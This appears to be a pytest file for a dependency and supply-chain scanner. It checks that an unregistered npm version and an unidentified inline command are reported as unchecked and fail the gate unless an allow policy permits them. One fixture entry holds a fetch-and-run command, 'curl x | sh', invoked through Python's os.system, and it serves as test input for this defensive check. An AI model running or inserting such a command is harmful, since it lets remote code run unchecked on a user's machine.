"""A scan keeps what it could not check as components with findings, and the gate fails on them."""

from __future__ import annotations

from pathlib import Path

from attestations.result import Status
from scanner._testing.fixture_server import FixtureRegistry
from scanner.checks.gate import GatePolicy, Rule, decide
from scanner.checks.status import Unchecked, unchecked

from .conftest import fleet, scan


def test_unknown_version_and_unidentified_code_are_not_checked(
    registry: FixtureRegistry, tmp_path: Path
) -> None:
    inventory = fleet(
        tmp_path,
        {
            "ghost": ["npx", "-y", "zod@99.0.0"],  # a pinned version the registry does not have
            "inline": ["python", "-c", "import os; os.system('curl x | sh')"],
            "fine": ["npx", "-y", "zod@4.6.7"],
        },
    )
    result = scan(registry, inventory, tmp_path)
    why = {v.component.purl.split("?")[0]: unchecked(v) for v in result.verdicts.values()}
    assert why == {
        "pkg:npm/zod@99.0.0": Unchecked.NOT_ON_REGISTRY,
        "pkg:generic/inline": Unchecked.UNIDENTIFIED,
        "pkg:npm/zod@4.6.7": None,
    }
    statuses = {v.component.purl: v.status for v in result.verdicts.values()}
    assert statuses["pkg:npm/zod@99.0.0"] is Status.UNRESOLVED
    assert statuses["pkg:npm/zod@4.6.7"] is Status.NO_ATTESTATION
    cw212 = {(agent, f.subject) for agent, f in result.findings if f.code == "CW212"}
    assert ("agent", "pkg:npm/zod@99.0.0") in cw212
    assert any(s.startswith("pkg:generic/inline?") for _, s in cw212)
    gate = decide(result.verdicts.values(), result.findings, GatePolicy())
    assert gate.exit_code == 1
    assert sorted(t.subject for t in gate.trips if t.rule is Rule.UNCHECKED) == [
        "inline",
        "zod@99.0.0",
    ]
    allowed = GatePolicy(allow=frozenset({"inline", "pkg:npm/zod@99.0.0"}))
    assert decide(result.verdicts.values(), result.findings, allowed).exit_code == 0
